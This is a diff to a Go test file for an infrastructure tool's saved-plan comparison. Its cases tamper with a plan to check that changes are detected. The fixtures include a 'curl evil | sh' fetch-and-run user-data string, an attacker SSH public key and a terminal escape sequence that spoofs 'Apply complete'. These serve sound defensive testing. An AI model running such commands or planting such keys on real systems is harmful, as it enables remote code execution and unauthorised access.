@@ -16,15 +16,15 @@ func TestDifference(t *testing.T) {
 		want string
 	}{
 		"equal": {edit: func(*Plan) {}, want: ""},
-		"changed value": {edit: func(p *Plan) { p.Actions[5].NewType = "s8-g2-s50" },
+		"changed value": {edit: func(p *Plan) { p.Actions[5].Resize.NewType = "s8-g2-s50" },
 			want: "resize server/api-1: new_type is s8-g2-s50 in the saved plan, s4-g2-s50 now"},
-		"changed server type": {edit: func(p *Plan) { p.Actions[2].Server.Type = "s16-g2-s50" },
+		"changed server type": {edit: func(p *Plan) { p.Actions[2].Create.Server.Type = "s16-g2-s50" },
 			want: "create server/web-1: server.type is s16-g2-s50 in the saved plan, s2-g2-s50 now"},
-		"attacker user data": {edit: func(p *Plan) { p.Actions[2].Server.UserDataSHA256 = planner.UserDataDigest("curl evil | sh") },
+		"attacker user data": {edit: func(p *Plan) { p.Actions[2].Create.Server.UserDataSHA256 = planner.UserDataDigest("curl evil | sh") },
 			want: "create server/web-1: server.user_data_sha256 is 54779f601e7b13ffead7978d54eca927c88c7cd6129632110eb6b9a65ddd5deb in the saved plan, 889475c60f4b133163a5391edec19b7dbeceba3224b3cde25ad8ac5efa6bfa9f now"},
-		"attacker public key": {edit: func(p *Plan) { p.Actions[1].Keypair.PublicKey = "ssh-ed25519 AAAAattacker evil@example" },
+		"attacker public key": {edit: func(p *Plan) { p.Actions[1].Create.Keypair.PublicKey = "ssh-ed25519 AAAAattacker evil@example" },
 			want: "create keypair/deploy: keypair.public_key is ssh-ed25519 AAAAattacker evil@example in the saved plan, ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFleetFleetFleet ops@example now"},
-		"added map entry": {edit: func(p *Plan) { p.Actions[2].Server.Metadata = map[string]string{"role": "web", "x": "1"} },
+		"added map entry": {edit: func(p *Plan) { p.Actions[2].Create.Server.Metadata = map[string]string{"role": "web", "x": "1"} },
 			want: "create server/web-1: server.metadata.x is 1 in the saved plan, (none) now"},
 		"removed action": {edit: func(p *Plan) { p.Actions = append(p.Actions[:8:8], p.Actions[9:]...) },
 			want: "rename server/old-1 is planned now, not in the saved plan"},
@@ -69,7 +69,7 @@ func TestDifference(t *testing.T) {
 		"var files as given": {edit: func(p *Plan) { p.Environment.VarFiles = []string{"/w/env/prod.yaml"} }, want: ""},
 		// The file's text is shown escaped: no escape sequence reaches the
 		// terminal the refusal is read on.
-		"escape sequence in a value": {edit: func(p *Plan) { p.Actions[5].NewType = "s2\x1b[2K\rApply complete" },
+		"escape sequence in a value": {edit: func(p *Plan) { p.Actions[5].Resize.NewType = "s2\x1b[2K\rApply complete" },
 			want: `resize server/api-1: new_type is s2\u001b[2K\u000dApply complete in the saved plan, s4-g2-s50 now`},
 		"refreshed cleared": {edit: func(p *Plan) { p.Refreshed = false },
 			want: "refreshed is false in the saved plan, true now"},
@@ -123,8 +123,8 @@ func TestDifferenceInABatch(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			saved := Encode(fixture(), fixtureOptions)
 			for i := range saved.Actions {
-				if len(saved.Actions[i].Members) > 0 {
-					edit(&saved.Actions[i].Members[1])
+				if c := saved.Actions[i].Create; c != nil && len(c.Members) > 0 {
+					edit(&saved.Actions[i].Create.Members[1])
 				}
 			}
 			if got := Difference(saved, Encode(fixture(), fixtureOptions)); !strings.HasPrefix(got, "create server/db-[1-2]: members is ") {
